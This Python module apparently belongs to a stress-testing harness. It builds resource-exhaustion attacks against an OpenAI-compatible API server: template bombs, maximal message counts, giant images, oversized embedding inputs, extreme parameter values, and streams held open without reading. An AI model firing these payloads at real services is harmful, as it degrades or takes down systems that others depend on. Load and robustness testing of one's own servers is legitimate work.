"""What callers can do by OpenAI's API: with templates, messages, pictures, streams, and members at their bounds."""

from __future__ import annotations

import base64
import itertools
import json
from typing import Any

from attacks import ways
from attacks.http2_client import Connection
from attacks.rest import credential, head, open_connection
from attacks.strangers import Attack
from attacks.world import BOMB, CHAT, EMBEDDER, MB, Tally, Target

_CHATS, _EMBEDDINGS = "/v1/chat/completions", "/v1/embeddings"
# JSON of a request ends at 8 MiB.
_LARGEST = 8 * MB - 4096
_STREAMS = 80
_STATUS = b"HTTP/1.1 200"
_WORD_BYTES = 60_000


def _chat(*messages: str, model: str = CHAT, **members: Any) -> bytes:
    said = [{"role": "user", "content": each} for each in messages]
    return json.dumps({"model": model, "messages": said, **members}).encode()


def _posted(target: Target, path: str, body: bytes) -> bytes:
    return head("POST", path, credential(target), f"Content-Length: {len(body)}") + body


def _bodies(*bodies: bytes, path: str = _CHATS, together: int = 8) -> Attack:
    """Bodies one after the other, each on a connection of its own, until it is answered."""

    def attack(target: Target, tally: Tally) -> None:
        requests = itertools.cycle([_posted(target, path, body) for body in bodies])

        def once() -> None:
            with open_connection(target) as connection:
                connection.send(next(requests))
                tally.add(connection.socket.recv(len(_STATUS)).removeprefix(_STATUS[:9]).decode())

        ways.again(tally, once, together)

    return attack


TEMPLATE_BOMBS = _bodies(*(_chat(said, model=BOMB) for said in ("busy", "loop", "memory")))
# As many as there may be, of the shortest that fill the body.
MANY_MESSAGES = _bodies(_chat(*["x" * (_LARGEST // 4096 - 48)] * 4096, max_tokens=1), together=4)
_PICTURE = "data:image/png;base64," + base64.b64encode(bytes(_LARGEST * 3 // 4 - 4096)).decode()
_SHOWN: list[Any] = [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": _PICTURE}}]}]
HUGE_PICTURES = _bodies(json.dumps({"model": CHAT, "messages": _SHOWN, "max_tokens": 1}).encode(), together=4)
EMBEDDINGS = _bodies(
    json.dumps({"model": EMBEDDER, "input": ["x" * (_LARGEST // 4 - 64)] * 4}).encode(),
    json.dumps({"model": EMBEDDER, "input": ["x"] * 49_000}).encode(),
    path=_EMBEDDINGS,
    together=4,
)
EXTREMES = _bodies(
    _chat("x", stop=["x" * 1023 + str(each % 10) for each in range(16)], max_tokens=2**31 - 1),
    _chat("x" * 50_000, stop=["x" * 1023 + "y"] * 16, stream=True),
    _chat("x", stop=[str(each) for each in range(49_000)]),
    _chat("x", n=2**31),
    _chat("x", logprobs=True, top_logprobs=20),
    _chat("x", max_tokens=10**300),
    _chat("x", temperature=1e308, seed=-(2**63)),
    _chat("x", logit_bias={str(each): 100 for each in range(49_000)}),
    _chat("x", tools=[{"type": "function", "function": {"name": "f" * 9000}}] * 256),
    _chat("x", response_format={"type": "json_schema", "json_schema": {"schema": {"x": list(range(9000))}}}),
)


def unread_events(target: Target, tally: Tally) -> None:
    """Streams of large events, of which nothing is read."""
    said = f"forever {'x' * _WORD_BYTES}"
    request = _posted(target, _CHATS, _chat(said, stream=True, max_tokens=300, pace=0.05))

    def open_one(_: int) -> Connection:
        connection = open_connection(target)
        connection.send(request)
        return connection

    ways.hold(tally, open_one, target.count(_STREAMS), reads=False)
